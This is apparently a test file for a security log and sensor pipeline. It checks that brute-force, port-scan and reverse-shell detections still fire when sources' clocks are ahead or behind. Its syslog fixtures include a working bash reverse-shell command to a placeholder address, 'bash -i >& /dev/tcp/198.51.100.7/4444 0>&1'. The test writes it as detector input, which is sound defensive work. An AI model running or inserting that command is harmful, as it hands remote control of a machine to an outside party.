import { describe, expect, it } from 'vitest';
import { checkConfig, configSchema, type SourceConfig } from '../../src/config/index.ts';
import { canonicalJson, type RecordBatch, type RuleDetector, silentLogger } from '../../src/core/index.ts';
import { featureRunner } from '../../src/features/index.ts';
import { createSensorParser } from '../../src/parsers/index.ts';
import { catalogueOf, loadComponents } from '../../src/pipeline/index.ts';
import type { Finding, Lane } from '../../src/pipeline/lane/lane.ts';
import { LogLane } from '../../src/pipeline/lane/log-lane.ts';
import { LaneRules } from '../../src/pipeline/lane/rules.ts';
import { SensorLane } from '../../src/pipeline/lane/sensor-lane.ts';

const START = Date.UTC(2026, 2, 4, 9) / 1000;
const components = await loadComponents();

function sourceOf(options: Record<string, unknown>): SourceConfig {
  const value = { tenants: { t: { sources: [{ name: 'src', ...options }] } } };
  return checkConfig(value, configSchema(catalogueOf(components))).config.tenants.t?.sources[0] as SourceConfig;
}

function ruleOf(name: string): LaneRules {
  const definition = components.detectors.get(name);
  const context = { name, log: silentLogger, now: () => 0, random: () => 0.5, features: featureRunner, declared: {}, beside: [] };
  const made = definition?.create(definition.config.parse({}), context) as RuleDetector;
  return new LaneRules(made, { tenant: 't', source: 'src', detector: name });
}

const logLane = (): Lane => {
  const lane = new LogLane({
    source: sourceOf({ type: 'syslog', udpPort: 0 }),
    scorers: [],
    rules: [ruleOf('sigma')],
    undated: 'arrival',
  });
  lane.begin('syslog');
  return lane;
};
const sensorLane = (): Lane =>
  new SensorLane(
    {
      source: sourceOf({ type: 'directory', path: '/nowhere', records: 'sensor' }),
      scorers: [],
      rules: [ruleOf('use-cases'), ruleOf('suricata')],
    },
    createSensorParser('src'),
  );

interface Sent {
  readonly input: string;
  readonly text: string;
  /** Seconds. */
  readonly arrival: number;
}

/** `perBatch` records of one input that came in the same second. */
async function run(make: () => Lane, sent: readonly Sent[], perBatch = 1000, restoreAt = -1) {
  let lane = make();
  const findings: Finding[] = [];
  const offsets = new Map<string, number>();
  for (let i = 0, batch = 0; i < sent.length; batch++) {
    const { input, arrival } = sent[i] as Sent;
    const lines: string[] = [];
    while (lines.length < perBatch && sent[i]?.input === input && sent[i]?.arrival === arrival) lines.push((sent[i++] as Sent).text);
    const bytes = new TextEncoder().encode(`${lines.join('\n')}\n`);
    const offset = offsets.get(input) ?? 0;
    offsets.set(input, offset + bytes.length);
    const records: RecordBatch = { input, generation: 'g', offset, line: offset, bytes, arrival: arrival * 1e6, last: false };
    if (batch === restoreAt) {
      const blobs = await lane.snapshot();
      lane = make();
      await lane.restore(blobs);
    }
    findings.push(...(await lane.process(records)).findings);
  }
  findings.push(...(await lane.end()).findings);
  return { lane, findings, titles: [...new Set(findings.map(({ detection }) => detection.title))] };
}

const stamp = (second: number): string => {
  const [, day, month, , time] = /^\w+, (\d+) (\w+) (\d+) ([\d:]+)/.exec(new Date(second * 1000).toUTCString()) ?? [];
  return `${month} ${String(Number(day)).padStart(2)} ${time}`;
};
const line = (host: string, message: string, at: number, off = 0, input = 'relay'): Sent => ({
  input,
  arrival: at,
  text: `<38>${stamp(at + off)} ${host} ${message}`,
});
const ordinary = (from: number, seconds: number, hosts = ['web1', 'web2', 'db1']): Sent[] =>
  Array.from({ length: seconds }, (_, i) =>
    line(hosts[i % hosts.length] as string, `CRON[${i}]: (root) CMD (run-parts /etc/cron.hourly)`, from + i),
  );
const guesses = (host: string, at: number, off = 0, count = 45): Sent[] =>
  Array.from({ length: count }, (_, i) =>
    line(host, `sshd[${i}]: Failed password for root from 203.0.113.9 port ${4000 + i} ssh2`, at + i, off),
  );
const shells = (host: string, at: number, off = 0): Sent[] =>
  Array.from({ length: 3 }, (_, i) => line(host, `bash[${i}]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`, at + i, off));

const GUESSED = /guess|brute|sign-in|password/i;
const SHELL = /reverse shell/i;
const CLOCKS = /dated ahead|come late/;

describe('lines whose clock is wrong', () => {
  it('blind nobody: who dates lines ahead of their arrival does not make those of others late', async () => {
    const ahead = Array.from({ length: 9 }, () => line('x', 'logger: hello', START + 120, 590));
    const { titles, lane } = await run(logLane, [
      ...ordinary(START, 120),
      ...ahead,
      ...guesses('web1', START + 121),
      ...shells('web1', START + 170),
    ]);
    expect(titles).toContainEqual(expect.stringMatching(GUESSED));
    expect(titles).toContainEqual(expect.stringMatching(SHELL));
    expect(lane.counters).toMatchObject({ late: 0, future: 0 });
    expect(lane.ownCounters).toMatchObject({ ahead: 9 });
  });

  it('hide nothing either: a host an hour behind at a relay that others use is judged, and its sender is told', async () => {
    const { titles, findings, lane } = await run(logLane, [
      ...ordinary(START, 120),
      ...guesses('far', START + 120, -3600),
      ...shells('far', START + 170, -3600),
    ]);
    expect(titles).toContainEqual(expect.stringMatching(GUESSED));
    expect(titles).toContainEqual(expect.stringMatching(SHELL));
    expect(lane.counters.late).toBeGreaterThan(20);
    const told = findings.filter(({ detection }) => CLOCKS.test(detection.title));
    expect(new Set(told.map(({ detection }) => detection.id)).size).toBe(1);
    expect(told.at(-1)?.detection.explanation.what).toMatch(/far by relay \(\d+, 59 min behind\)/);
  });

  it('are corrected once the clock has been as much behind for a minute: they count in windows like those of others', async () => {
    const far = Array.from({ length: 240 }, (_, i) => line('far', `CRON[${i}]: (root) CMD (run-parts)`, START + 120 + i, -3600));
    const mixed = ordinary(START, 360).flatMap((one) => [one, ...far.filter(({ arrival }) => arrival === one.arrival)]);
    const { lane } = await run(logLane, mixed);
    expect(lane.ownCounters.clockCorrected).toBeGreaterThan(150);
    expect(lane.counters.late).toBeLessThan(80);
    expect(lane.counters.late + (lane.ownCounters.clockCorrected as number)).toBe(240);
    // Its lines hold event time back no more than those of others do.
    expect(lane.watermark.value / 1e6).toBeGreaterThan(START + 340);
  });

  it('of a backlog that a shipper catches up with are judged by every signature', async () => {
    const backlog = Array.from({ length: 600 }, (_, i) => {
      const at = START + 3600 + Math.floor(i / 20);
      const message = i === 300 ? 'bash[1]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' : `CRON[${i}]: (root) CMD (run-parts)`;
      return line('web1', message, at, START + i * 5 - at);
    });
    const { titles } = await run(logLane, [...ordinary(START + 3480, 120), ...backlog]);
    expect(titles).toContainEqual(expect.stringMatching(SHELL));
    expect(titles).toContainEqual(expect.stringMatching(/come late/));
  });

  it('give the same whatever the batches and wherever a snapshot falls', async () => {
    const far = Array.from({ length: 240 }, (_, i) =>
      line('far', `sshd[${i}]: Failed password for root from 203.0.113.9 port 1 ssh2`, START + 120 + i, -3600),
    );
    const ahead = Array.from({ length: 60 }, (_, i) => line('fast', `logger: hello ${i}`, START + 100 + i, 300));
    const sent = [...ordinary(START, 360), ...far, ...ahead].sort((a, b) => a.arrival - b.arrival);
    const shown = ({ findings }: { findings: readonly Finding[] }) => findings.map(({ detection }) => detection.id);
    const last = ({ findings }: { findings: readonly Finding[] }) =>
      [...new Map(findings.map(({ detection }) => [detection.id, canonicalJson(detection)])).values()].sort();
    const whole = await run(logLane, sent);
    expect(shown(whole).length).toBeGreaterThan(2);
    for (const [perBatch, restoreAt] of [
      [1, -1],
      [1, 333],
      [2, 50],
    ] as const) {
      const again = await run(logLane, sent, perBatch, restoreAt);
      expect(last(again)).toEqual(last(whole));
      expect({ ...again.lane.counters, bytes: 0 }).toEqual({ ...whole.lane.counters, bytes: 0 });
      expect(again.lane.ownCounters).toEqual(whole.lane.ownCounters);
    }
  });
});

let flow = 0;
function eve(input: string, at: number, off: number, from: string, to: string, port: number, forward: number, backward: number): Sent {
  const iso = (second: number) => new Date(second * 1000).toISOString().replace('Z', '+0000');
  const state = backward > 0 ? { state: 'closed', flags: '1b' } : { state: 'new', flags: '02' };
  const text = JSON.stringify({
    ...{
      timestamp: iso(at + off),
      flow_id: ++flow,
      event_type: 'flow',
      src_ip: from,
      src_port: 30_000 + (flow % 30_000),
      dest_ip: to,
      dest_port: port,
      proto: 'TCP',
    },
    flow: {
      ...{ pkts_toserver: forward, pkts_toclient: backward, bytes_toserver: forward * 80, bytes_toclient: backward * 100 },
      ...{ start: iso(at + off - 0.2), end: iso(at + off), age: 0, state: state.state, reason: 'timeout', alerted: false },
    },
    tcp: { tcp_flags: state.flags, tcp_flags_ts: state.flags, tcp_flags_tc: backward > 0 ? '1b' : '00' },
  });
  return { input, text, arrival: at };
}
const traffic = (input: string, from: number, seconds: number, off = 0): Sent[] =>
  Array.from({ length: seconds * 2 }, (_, i) =>
    eve(input, from + Math.floor(i / 2), off, `10.1.1.${10 + (i % 20)}`, `93.20.30.${1 + (i % 50)}`, 443, 20, 30),
  );
const bruteForce = (input: string, from: number, off = 0): Sent[] =>
  Array.from({ length: 60 }, (_, i) => eve(input, from + Math.floor(i / 2), off, '203.0.113.5', '10.1.1.9', 22, 14, 12));
const scan = (input: string, from: number, off = 0): Sent[] =>
  Array.from({ length: 300 }, (_, i) => eve(input, from + Math.floor(i / 20), off, '203.0.113.6', '10.1.1.8', 1 + i * 3, 1, 0));
const byArrival = (...parts: Sent[][]): Sent[] => parts.flat().sort((a, b) => a.arrival - b.arrival);

describe('sensors whose clocks differ', () => {
  const SCAN = /port scan/i;
  const LOGINS = /brute|guess|login/i;

  it('are judged in one time: one that is ahead blinds the windows of no other', { timeout: 60_000 }, async () => {
    const sent = byArrival(
      traffic('a.json', START, 240),
      traffic('b.json', START, 240, 480),
      bruteForce('a.json', START + 90),
      scan('a.json', START + 130),
    );
    const { titles } = await run(sensorLane, sent);
    expect(titles).toContainEqual(expect.stringMatching(SCAN));
    expect(titles).toContainEqual(expect.stringMatching(LOGINS));
    expect(titles).toContainEqual(expect.stringMatching(/dated ahead/));
  });

  it('are judged in one time when one is behind, once that has lasted a minute', { timeout: 60_000 }, async () => {
    const sent = byArrival(traffic('a.json', START, 300), traffic('b.json', START, 300, -1200), scan('b.json', START + 150, -1200));
    const { titles, lane } = await run(sensorLane, sent);
    expect(titles).toContainEqual(expect.stringMatching(SCAN));
    expect(titles).toContainEqual(expect.stringMatching(/come late/));
    expect(lane.ownCounters.clockCorrected).toBeGreaterThan(500);
  });

  it('keep the times that they wrote in the store', async () => {
    const lane = sensorLane();
    const [one] = traffic('b.json', START, 1, 480) as [Sent];
    const bytes = new TextEncoder().encode(`${one.text}\n`);
    const records = { input: 'b.json', generation: 'g', offset: 0, line: 1, bytes, arrival: START * 1e6, last: false };
    const [event] = (await lane.process(records)).events;
    const timeOf = (batch: unknown) => (batch as { columns: { time: Float64Array } }).columns.time[0] as number;
    expect(timeOf(event?.batch)).toBe((START + 480) * 1e6 - 200_000);
    expect(timeOf(event?.judged)).toBe(START * 1e6 - 200_000);
  });
});
